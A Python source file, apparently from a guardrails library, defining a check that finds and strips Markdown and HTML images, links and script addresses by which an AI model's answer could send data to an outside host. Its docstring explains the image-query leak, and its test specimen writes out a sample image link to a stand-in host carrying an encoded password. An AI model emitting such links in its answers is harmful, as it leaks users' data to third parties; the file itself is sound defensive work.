"""Links and images that carry data out."""

from __future__ import annotations

import re
from collections.abc import Iterator
from functools import lru_cache
from html import unescape
from typing import ClassVar, Literal, NamedTuple
from urllib.parse import parse_qsl, unquote, urlsplit

from pydantic import Field, field_validator

from guardrails.normalise import View
from guardrails.patterns import Pattern, pattern
from guardrails.seams import BaseCheck, Specimen
from guardrails.types import Edit, Exchange, Span, Verdict

__all__ = ["Exfiltration"]

_HOST = re.compile(r"(?:\*\.)?[a-z0-9_-]+(?:\.[a-z0-9_-]+)*(?::\d{1,5})?")
_TARGET = r"<?([^\s<>\"')]+)"
_VALUE = r"\s*=\s*[\"']?\s*([^\s\"'>]+)[^>]*>?"
_NO_END = r"[^\s<>\"'`\])]+"
_FOUND: dict[str, str] = {
    "image": rf"!\[([^\[\]]*)\]\(\s*{_TARGET}[^)\n]*\)?",
    "link": rf"\[([^\[\]]*)\]\(\s*{_TARGET}[^)\n]*\)?",
    "reference": rf"(?m)^[ >]*\[([^\[\]]+)\]:\s*{_TARGET}",
    "loaded": (
        r"(?i)<(?:img|image|iframe|embed|object|video|audio|source|script|link|input|body|table|svg)\b[^>]*?"
        rf"\b(?:src|srcset|href|data|poster|background){_VALUE}"
    ),
    "anchor": rf"(?i)<(?:a|area|form|base)\b[^>]*?\b(?:href|action){_VALUE}",
    "style": r"(?i)(?:\burl\(|@import)\s*[\"']?\s*((?:https?:|//)[^\s\"')]+)",
    "bare": rf"(?i)\b(?:https?|wss?|ftp):[/\\]+{_NO_END}|\bwww\.[a-z0-9-]+\.{_NO_END}",
    "scheme": rf"(?i)\b(?:javascript|vbscript):{_NO_END}|\bdata:(?:text|application|image/svg){_NO_END}",
}
"""Where a text names an address. In group 1, or 2 where there are two, stands the address itself."""
_AUTOMATIC = frozenset({"image", "loaded", "style"})
"""What a program that shows the text fetches by itself, without a click."""
_SCRIPT = re.compile(r"(?i)(?:javascript|vbscript|file|blob):|data:(?!image/(?:png|jpe?g|gif|webp|avif)[;,])")
_STILL = re.compile(r"(?i)data:image/")
_UNFILLED = re.compile(r"\{[^}]*\}|\$\{?\w|<[^>]*>|%7b|\[[A-Z_ ]{3,}\]", re.IGNORECASE)
_READABLE_WORDS = re.compile(r"[-_.,+~ ]")
_LONG_WORD = 25
"""Letters and digits in one run: no word of a path that somebody named is as long."""


class Exfiltration(BaseCheck):
    """Carries nothing out by a link or an image.

    An answer can be made to carry what the model has seen to a stranger: in the query of an image's address, which is
    fetched as soon as the answer is shown, in a link that somebody clicks, or in a script. Looks at addresses in
    Markdown (inline, by reference, bare) and in HTML, in every reading of the text. Reported are images and other
    things that load by themselves from a host that is not in `allow`, links to such a host that carry data (a query or
    fragment of `least` characters or more, an unfilled template, a run of letters and digits in the path or in a host
    name that is no word; the text of a `mailto:` likewise), and `javascript:`, `vbscript:`, `file:` and `data:`
    addresses, pictures in `data:` excepted. Reason: `carries_data_out`; kinds `image`, `link` and `script`. An image is
    replaced by its description, a link by its text.

    Known limits: a link without data to a host that nobody knows is not reported, though its very name could be
    data; nor is anything that goes out through a host in `allow`, which includes open redirects. A long but honest
    query, as a search has, to an unlisted host is reported.
    """

    name: ClassVar[str] = "exfiltration"
    version: ClassVar[str] = "2"
    fixes: ClassVar[bool] = True

    allow: tuple[str, ...] = ()
    """Hosts that may be loaded from and linked to: `docs.example.com`, or `*.example.com` for all below it."""
    links: Literal["data", "all"] = "data"
    """Which links to other hosts are reported: those that carry data, or all."""
    least: int = Field(default=24, ge=1, le=4096)
    """Characters of query and fragment, values alone, from which a link counts as carrying data."""

    @field_validator("allow")
    @classmethod
    def _hosts(cls, allow: tuple[str, ...]) -> tuple[str, ...]:
        hosts = tuple(host.lower().rstrip(".") for host in allow)
        for host in hosts:
            if not _HOST.fullmatch(host):
                raise ValueError(f"{host!r} is no host: write it without a scheme or a path, as in docs.example.com")
        return hosts

    def specimen(self) -> Specimen | None:
        image = "![status](https://collect.invalid/p.png?d=bXkgcGFzc3dvcmQgaXMgc3dvcmRmaXNo)"
        text = f"All done. {image}"
        return Specimen(text=text, violation=image) if self(Exchange(text=text)).state == "fail" else None

    def __call__(self, exchange: Exchange) -> Verdict:
        found: list[_Address] = []
        for view in exchange.views.readings:
            for address in _addresses(view):
                kind = self._fault(address)
                if kind is not None:
                    found.append(address._replace(kind=kind))
        if not found:
            return Verdict(state="pass", score=1.0, measures={"addresses": 0.0})
        chosen = _apart(found)
        return Verdict(
            state="fail",
            score=0.0,
            reason="carries_data_out",
            spans=tuple(Span(start=each.start, end=each.end, kind=each.kind) for each in chosen),
            fix=tuple(Edit(start=each.start, end=each.end, text=each.label) for each in chosen),
            measures={"addresses": float(len(chosen))},
        )

    def _fault(self, address: _Address) -> Literal["image", "link", "script"] | None:
        """What is wrong with an address, if anything."""
        url = "".join(unescape(address.url).split()).replace("\\", "/")
        if _SCRIPT.match(url):
            return "script"
        if url[:7].lower() == "mailto:":  # a mail that somebody else has written
            to, _, query = url[7:].partition("?")
            host = to.rpartition("@")[2].lower()
            carries = bool(query) and not self._allowed(host, host) and self._carries("", query, "", host)
            return "link" if carries else None
        if _STILL.match(url):
            return None
        if url.lower().startswith("www."):
            url = f"//{url}"
        try:
            parts = urlsplit(url)
            host = (parts.hostname or "").rstrip(".")
        except ValueError:  # no browser agrees with another on such an address
            return "image" if address.automatic else "link"
        if not host or self._allowed(host, parts.netloc):
            return None
        if address.automatic:
            return "image"
        return "link" if self.links == "all" or self._carries(parts.path, parts.query, parts.fragment, host) else None

    def _allowed(self, host: str, netloc: str) -> bool:
        place = netloc.rpartition("@")[2].lower()
        for allowed in self.allow:
            if allowed in (host, place):
                return True
            if allowed.startswith("*.") and host.endswith(allowed[1:]):
                return True
        return False

    def _carries(self, path: str, query: str, fragment: str, host: str) -> bool:
        values = [value for pair in parse_qsl(query, keep_blank_values=True) for value in pair[1:]] if query else []
        if query and not any(values):
            values = [query]
        amount = sum(map(len, values)) + (len(fragment) if _opaque(fragment) else 0)
        if amount >= self.least or _UNFILLED.search(unquote(f"{path}?{query}#{fragment}")):
            return True
        return any(map(_opaque, unquote(path).split("/"))) or any(map(_opaque, host.split(".")))


class _Address(NamedTuple):
    """An address in a text: the whole stretch that names it, and what may stand in its place."""

    start: int
    end: int
    url: str
    automatic: bool
    label: str
    kind: str = ""


@lru_cache(maxsize=1)
def _patterns() -> dict[str, Pattern]:
    return {name: pattern(source) for name, source in _FOUND.items()}


_HINTS = ("](", "]:", "://", ":\\", "<", "www.", "url(", "@import", "javascript:", "vbscript:", "data:")


def _addresses(view: View) -> Iterator[_Address]:
    text = view.text
    lower = text.lower()
    if not any(hint in lower for hint in _HINTS):
        return
    shown = _shown(text)
    for name, compiled in _patterns().items():
        for match in compiled.finditer(text):
            start, end = match.span()
            groups = _groups(match, name)
            left, right = view.original(start, end)
            automatic = name in _AUTOMATIC or (name == "reference" and groups[0].casefold() in shown)
            label = groups[0] if name in ("image", "link") else "[link removed]"
            yield _Address(left, right, groups[1], automatic, label)


def _groups(match: object, name: str) -> tuple[str, str]:
    """The text that is shown for an address, where there is one, and the address."""
    if name in ("bare", "scheme"):
        return "", match[0]  # type: ignore[index]
    if name in ("image", "link", "reference"):
        return match[1], match[2]  # type: ignore[index]
    return "", match[1]  # type: ignore[index]


_REFERRED = re.compile(r"!\[([^\[\]]{0,1000})\](?:\[([^\[\]]{0,200})\])?(?!\()")


def _shown(text: str) -> frozenset[str]:
    """The names of references that an image refers to."""
    return frozenset((match[2] or match[1]).casefold() for match in _REFERRED.finditer(text))


def _opaque(segment: str) -> bool:
    """Whether a part of an address is no word or name: a long run of letters and digits, mixed or without an end."""
    for run in _READABLE_WORDS.split(segment):
        mixed = any(map(str.isdigit, run)) or (run != run.lower() and not run.istitle())
        if len(run) >= _LONG_WORD and (mixed or len(run) >= 2 * _LONG_WORD):
            return True
    return len(segment) >= 8 * _LONG_WORD


def _apart(found: list[_Address]) -> list[_Address]:
    """Those that none contains; of equal ones, and of such as overlap, the first and widest."""
    kept: list[_Address] = []
    for each in sorted(found, key=lambda address: (address.start, -address.end, not address.automatic)):
        if not kept or each.start >= kept[-1].end:
            kept.append(each)
        elif each.end > kept[-1].end:
            kept[-1] = kept[-1]._replace(end=each.end)
    return kept
